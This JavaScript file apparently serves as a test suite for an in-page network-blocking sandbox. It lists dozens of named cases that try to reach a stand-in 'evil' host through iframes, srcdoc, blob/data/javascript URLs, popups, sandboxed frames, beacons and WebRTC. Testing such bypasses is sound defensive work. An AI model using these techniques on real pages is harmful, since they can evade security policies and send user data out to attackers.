// Another realm has functions of its own: in a frame, a popup, a document made of nothing.
export default {
  "a frame's fetch by contentWindow": ({ add, evil }) => add("iframe").contentWindow.fetch(evil, { mode: "no-cors" }),
  "a frame's fetch by contentDocument": ({ add, evil }) =>
    add("iframe").contentDocument.defaultView.fetch(evil, { mode: "no-cors" }),
  "a frame's fetch by index": ({ add, evil }) => {
    add("iframe");
    return window[0].fetch(evil, { mode: "no-cors" });
  },
  "a frame's fetch by frames and length": ({ add, evil }) => {
    add("iframe");
    return frames[frames.length - 1].fetch(evil, { mode: "no-cors" });
  },
  "a frame's beacon by name": ({ add, evil }) => {
    add("iframe", { name: "inner" });
    return window.inner.navigator.sendBeacon(evil, "x");
  },
  "a frame's beacon with the page's navigator": ({ add, evil }) => {
    add("iframe");
    return window[0].Navigator.prototype.sendBeacon.call(navigator, evil, "x");
  },
  "a frame's open on the page's request": ({ add, evil }) => {
    add("iframe");
    const x = new XMLHttpRequest();
    window[0].XMLHttpRequest.prototype.open.call(x, "GET", evil);
    x.send();
  },
  "a frame's request by inner HTML": ({ add, evil }) => {
    add("div").innerHTML = "<iframe></iframe>";
    const x = new window[0].XMLHttpRequest();
    x.open("GET", evil);
    x.send();
  },
  "a frame's socket": ({ add, socket }) => {
    add("iframe");
    return void new window[0].WebSocket(socket);
  },
  "a frame's event source": ({ add, evil }) => {
    add("iframe");
    return void new window[0].EventSource(evil);
  },
  "a frame's Function": ({ add, evil }) => {
    add("iframe");
    return window[0].Function("url", "return fetch(url, { mode: 'no-cors' })")(evil);
  },
  "a frame's eval": ({ add, evil }) => {
    add("iframe");
    return window[0].eval(`fetch(${JSON.stringify(evil)}, { mode: "no-cors" })`);
  },
  "a constructor's constructor of a frame": ({ add, evil }) => {
    add("iframe");
    return window[0].Array.constructor("return globalThis")().fetch(evil, { mode: "no-cors" });
  },
  "a frame in a closed shadow tree": ({ add, evil }) => {
    const f = document.createElement("iframe");
    add("div").attachShadow({ mode: "closed" }).append(f);
    return f.contentWindow.fetch(evil, { mode: "no-cors" });
  },
  "a frame in a frame": ({ add, evil }) => {
    add("iframe");
    const inner = window[0].document.createElement("iframe");
    window[0].document.body.append(inner);
    return window[0][0].fetch(evil, { mode: "no-cors" });
  },
  "a frame in a frame, by the inner contentWindow": ({ add, evil }) => {
    add("iframe");
    const inner = window[0].document.createElement("iframe");
    window[0].document.body.append(inner);
    return inner.contentWindow.fetch(evil, { mode: "no-cors" });
  },
  "what was taken from a frame that is gone": ({ add, evil }) => {
    const f = add("iframe");
    const { Image } = window[0];
    const take = window[0].Navigator.prototype.sendBeacon;
    f.remove();
    new Image();
    return take.call(navigator, evil, "x");
  },
  "a frame adopted into a frame": ({ add, evil }) => {
    add("iframe");
    const f = document.createElement("iframe");
    window[0].document.body.append(f);
    document.body.append(f);
    return window[1].fetch(evil, { mode: "no-cors" });
  },
  "a frame that is still loading": ({ add, own, evil }) => {
    add("iframe", { src: `${own}/slow` });
    return window[0].fetch(evil, { mode: "no-cors" });
  },
  "a frame whose document is written": ({ add, evil, script }) => {
    const f = add("iframe");
    f.contentDocument.write(script(`fetch("${evil}", { mode: "no-cors" })`));
    f.contentDocument.close();
  },
  "a frame written by index": ({ add, evil, script }) => {
    add("iframe");
    window[0].document.write(script(`fetch("${evil}", { mode: "no-cors" })`));
  },
  "srcdoc that runs script": ({ add, evil, script }) =>
    add("iframe", { srcdoc: script(`fetch("${evil}", { mode: "no-cors" })`) }),
  "srcdoc that sends a beacon when it goes": async ({ add, evil, script }) => {
    const f = add("iframe", { srcdoc: script(`onpagehide = () => navigator.sendBeacon("${evil}", "x")`) });
    await new Promise((resolve) => (f.onload = resolve));
    f.remove();
  },
  "srcdoc in srcdoc": ({ add, evil, script }) => {
    const inner = script(`fetch("${evil}", { mode: "no-cors" })`).replaceAll('"', "&quot;");
    add("iframe", { srcdoc: `<iframe srcdoc="${inner}"></iframe>` });
  },
  "sandboxed srcdoc": ({ evil, script }) => {
    const f = document.createElement("iframe");
    f.sandbox = "allow-scripts";
    f.srcdoc = script(`fetch("${evil}", { mode: "no-cors" })`);
    document.body.append(f);
  },
  "a blob: frame": ({ add, blob, evil, script }) =>
    add("iframe", { src: blob(script(`fetch("${evil}", { mode: "no-cors" })`)) }),
  "a data: frame": ({ add, evil, script }) =>
    add("iframe", { src: `data:text/html,${script(`fetch("${evil}",{mode:"no-cors"})`)}` }),
  "a javascript: frame": ({ add, evil }) => add("iframe", { src: `javascript:fetch("${evil}",{mode:"no-cors"})` }),
  "a javascript: frame that becomes markup": ({ add, evil, script }) =>
    add("iframe", { src: `javascript:'${script(`fetch("${evil}",{mode:"no-cors"})`)}'` }),
  "a frame of the site without a policy": async ({ add, own, evil }) => {
    const f = add("iframe", { src: `${own}/plain` });
    await new Promise((resolve) => (f.onload = resolve));
    return f.contentWindow.fetch(evil, { mode: "no-cors" });
  },
  "a frame of the site's by index": async ({ add, own, evil, sleep }) => {
    add("iframe", { src: `${own}/plain` });
    await sleep(400);
    return window[0].fetch(evil, { mode: "no-cors" });
  },
  "an object of the site's": async ({ add, own, evil, sleep }) => {
    add("object", { data: `${own}/plain`, type: "text/html" });
    for (let at = 0; at < 20 && !window[0]?.document?.querySelector("#p"); at++) await sleep(50);
    return window[0].fetch(evil, { mode: "no-cors" });
  },
  "an embed of the site's": async ({ add, own, evil, sleep }) => {
    add("embed", { src: `${own}/plain`, type: "text/html" });
    for (let at = 0; at < 20 && !window[0]?.document?.querySelector("#p"); at++) await sleep(50);
    return window[0].fetch(evil, { mode: "no-cors" });
  },
  "a frame of a frameset": async ({ evil, own, sleep }) => {
    const set = document.createElement("frameset");
    set.append(Object.assign(document.createElement("frame"), { src: `${own}/plain` }));
    document.body.replaceWith(set);
    for (let at = 0; at < 40 && !window[0]?.document?.querySelector("#p"); at++) await sleep(50);
    return window[0].fetch(evil, { mode: "no-cors" });
  },
  "a popup's fetch": ({ evil }) => open("").fetch(evil, { mode: "no-cors" }),
  "a popup's fetch, later": async ({ evil, sleep }) => {
    const w = open("");
    await sleep(200);
    return w.fetch(evil, { mode: "no-cors" });
  },
  "a popup that is written": ({ evil, script }) =>
    open("").document.write(script(`fetch("${evil}", { mode: "no-cors" })`)),
  "a popup's image": ({ evil }) => {
    const w = open("");
    w.document.body.append(Object.assign(w.document.createElement("img"), { src: evil }));
  },
  "a popup's markup": ({ evil }) => void (open("").document.body.innerHTML = `<img src="${evil}">`),
  "a popup of a frame": ({ add, evil }) => {
    add("iframe");
    return window[0].open("").fetch(evil, { mode: "no-cors" });
  },
  "a popup that goes there": ({ evil }) => void (open("").location = evil),
  "a popup that goes there, later": async ({ evil, sleep }) => {
    const w = open("");
    await sleep(300);
    w.location.replace(evil);
  },
  "a popup with a link in it": ({ evil }) => {
    const w = open("");
    w.document.body.innerHTML = `<a href="${evil}">x</a>`;
    w.document.querySelector("a").click();
  },
  "a popup that refreshes": ({ evil }) => {
    const w = open("");
    w.document.write(`<meta http-equiv="refresh" content="0; url=${evil}">`);
    w.document.close();
  },
  "a popup with a blob: document": ({ blob, script, evil }) => void open(blob(script(`location = "${evil}"`))),
  "a popup with a javascript: URL": ({ evil }) => void open(`javascript:location="${evil}"`),
  "a popup of the site's, once loaded": async ({ own, evil, sleep }) => {
    const w = open(`${own}/plain`);
    while (!w.document.querySelector("#p") || w.document.readyState !== "complete") await sleep(50);
    await sleep(100);
    return w.fetch(evil, { mode: "no-cors" });
  },
  "a popup's opener": ({ script, evil }) => open("").document.write(script(`opener.location = "${evil}"`)),
  "a frame that a fragment made": ({ evil }) => {
    document.body.append(document.createRange().createContextualFragment("<iframe></iframe>"));
    return window[0].fetch(evil, { mode: "no-cors" });
  },
  "a frame that a template made": ({ evil }) => {
    const t = document.createElement("template");
    t.innerHTML = "<iframe></iframe>";
    document.body.append(t.content.cloneNode(true));
    return window[0].navigator.sendBeacon(evil, "x");
  },
  "a frame that a parser made": ({ evil }) => {
    const d = new DOMParser().parseFromString("<iframe></iframe>", "text/html");
    document.body.append(document.adoptNode(d.querySelector("iframe")));
    return window[0].navigator.sendBeacon(evil, "x");
  },
  "a frame that setHTMLUnsafe made": ({ add, evil }) => {
    add("div").setHTMLUnsafe("<iframe></iframe>");
    return window[0].fetch(evil, { mode: "no-cors" });
  },
  "a frame in a declared shadow tree": ({ add, evil }) => {
    const d = add("div");
    d.setHTMLUnsafe("<p><template shadowrootmode=open><iframe></iframe></template></p>");
    return d.firstChild.shadowRoot.querySelector("iframe").contentWindow.fetch(evil, { mode: "no-cors" });
  },
  "a frame that another document made": ({ evil }) => {
    const d = document.implementation.createHTMLDocument();
    const f = d.createElement("iframe");
    document.body.append(f);
    return f.contentWindow.fetch(evil, { mode: "no-cors" });
  },
  "a frame in a namespace": ({ evil }) => {
    document.body.append(document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe"));
    return window[0].fetch(evil, { mode: "no-cors" });
  },
  "WebRTC of a frame by index": {
    hit: "datagram",
    source: async ({ add, port, sleep }) => {
      add("iframe");
      const c = new window[0].RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      c.createDataChannel("x");
      await c.setLocalDescription(await c.createOffer());
      await sleep(1_000);
    },
  },
  "WebRTC of a loading frame by index": {
    hit: "datagram",
    source: async ({ add, own, port, sleep }) => {
      add("iframe", { src: `${own}/slow` });
      const c = new window[0].RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      c.createDataChannel("x");
      await c.setLocalDescription(await c.createOffer());
      await sleep(1_000);
    },
  },
  "WebRTC of srcdoc": {
    hit: "datagram",
    source: ({ add, port, script }) =>
      add("iframe", {
        srcdoc: script(`const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] });
          c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o));`),
      }),
  },
  "WebRTC of a written frame": {
    hit: "datagram",
    source: ({ add, port, script }) =>
      add("iframe").contentDocument.write(
        script(`const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] });
          c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o));`),
      ),
  },
  "WebRTC of a popup": {
    hit: "datagram",
    source: async ({ port, sleep }) => {
      const c = new (open("").RTCPeerConnection)({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      c.createDataChannel("x");
      await c.setLocalDescription(await c.createOffer());
      await sleep(1_000);
    },
  },
  "window.open of a frame by index": ({ add, evil }) => {
    add("iframe");
    window[0].open(evil);
  },
  "window.open of a loading frame by index": ({ add, own, evil }) => {
    add("iframe", { src: `${own}/slow` });
    window[0].open(evil);
  },
  "window.open of srcdoc by index, before it is there": ({ add, evil }) => {
    add("iframe", { srcdoc: "x" });
    window[0].open(evil);
  },
  "window.open of srcdoc": ({ add, evil, script }) => add("iframe", { srcdoc: script(`open("${evil}")`) }),
  "click of a loading frame by index": ({ add, own, evil }) => {
    add("iframe", { src: `${own}/slow` });
    const a = document.createElement("a");
    a.href = evil;
    a.target = "_blank";
    window[0].HTMLElement.prototype.click.call(a);
  },
  "a link of srcdoc's in a new window": ({ add, evil, script }) =>
    add("iframe", {
      srcdoc: `<a href="${evil}" target="_blank">x</a>${script("document.querySelector('a').click()")}`,
    }),
  "a link of srcdoc's at the top": ({ add, evil, script }) =>
    add("iframe", { srcdoc: `<a href="${evil}" target="_top">x</a>${script("document.querySelector('a').click()")}` }),
  "srcdoc that sends the page away": ({ add, evil, script }) =>
    add("iframe", { srcdoc: script(`top.location = "${evil}"`) }),
  "a sandboxed frame that sends the page away": ({ evil, script }) => {
    const f = document.createElement("iframe");
    f.sandbox = "allow-scripts allow-top-navigation";
    f.srcdoc = script(`top.location = "${evil}"`);
    document.body.append(f);
  },
  "a sandboxed frame that opens a window": ({ evil, script }) => {
    const f = document.createElement("iframe");
    f.sandbox = "allow-scripts allow-popups allow-popups-to-escape-sandbox";
    f.srcdoc = script(`open("${evil}")`);
    document.body.append(f);
  },
  "a popup of the site's, once loaded, its image": async ({ own, evil, sleep }) => {
    const w = open(`${own}/plain`);
    while (!w.document.querySelector("#p") || w.document.readyState !== "complete") await sleep(50);
    await sleep(100);
    new w.Image().src = evil;
  },
  "a popup of the site's, once loaded, goes there": async ({ own, evil, sleep }) => {
    const w = open(`${own}/plain`);
    while (!w.document.querySelector("#p") || w.document.readyState !== "complete") await sleep(50);
    await sleep(100);
    w.location = evil;
  },
};
